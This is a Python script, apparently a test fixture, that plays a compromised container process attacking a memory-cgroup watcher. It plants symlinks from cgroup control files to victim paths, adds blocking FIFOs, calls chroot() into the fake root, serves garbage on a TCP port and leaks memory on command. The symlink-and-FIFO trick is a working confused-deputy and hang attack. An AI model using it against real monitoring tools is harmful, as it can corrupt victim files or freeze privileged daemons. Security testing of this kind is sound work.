"""A compromised app, as a process of its own: python attacker.py FAKE_ROOT VICTIM...

It listens on a TCP port (answering garbage), prints `listening <port>`, then obeys lines
on stdin:
- `chroot`: builds FAKE_ROOT/<its memory cgroup's path as it sees it>, where every cgroup
  file the watcher might open again is a symlink to an absolute path in the watcher's root
  (the VICTIM files, in turn) or a FIFO that blocks whoever opens it, then chroot()s into
  FAKE_ROOT (CAP_SYS_CHROOT is in the default container capability set); prints `chrooted`.
- `leak MIB`: allocates and touches MIB MiB; prints `leaked`.
It exits when its stdin closes.
"""

import os
import socket
import sys
import threading
from pathlib import Path

LINKED = (
    "cgroup.event_control",
    "memory.oom_control",
    "memory.limit_in_bytes",
    "memory.memsw.limit_in_bytes",
    "memory.high",
    "memory.max",
)
FIFOS = ("memory.usage_in_bytes", "memory.stat", "memory.current", "memory.events")


def memory_cgroup_path() -> str:
    for line in Path("/proc/self/cgroup").read_text().splitlines():
        _, controllers, path = line.split(":", 2)
        if "memory" in controllers.split(","):
            return path
    raise SystemExit("attacker: not in a cgroup v1 memory group")


def plant(fake_root: Path, victims: list[str]) -> None:
    folder = fake_root / "sys/fs/cgroup/memory" / memory_cgroup_path().lstrip("/")
    folder.mkdir(parents=True, exist_ok=True)
    for index, name in enumerate(LINKED):
        (folder / name).symlink_to(victims[index % len(victims)])
    for name in FIFOS:
        os.mkfifo(folder / name)


def answer_garbage(listener: socket.socket) -> None:
    while True:
        connection, _ = listener.accept()
        with connection:
            connection.recv(65536)
            connection.sendall(b"SSH-2.0-not-pprof\r\n")


def main() -> None:
    fake_root, victims = Path(sys.argv[1]), sys.argv[2:]
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    threading.Thread(target=answer_garbage, args=(listener,), daemon=True).start()
    print(f"listening {listener.getsockname()[1]}", flush=True)
    held: list[bytearray] = []
    for line in sys.stdin:
        command, *args = line.split()
        if command == "chroot":
            plant(fake_root, victims)
            os.chroot(fake_root)
            os.chdir("/")
            print("chrooted", flush=True)
        elif command == "leak":
            block = bytearray(int(args[0]) * 1024 * 1024)
            for offset in range(0, len(block), 4096):
                block[offset] = 1
            held.append(block)
            print("leaked", flush=True)


if __name__ == "__main__":
    main()
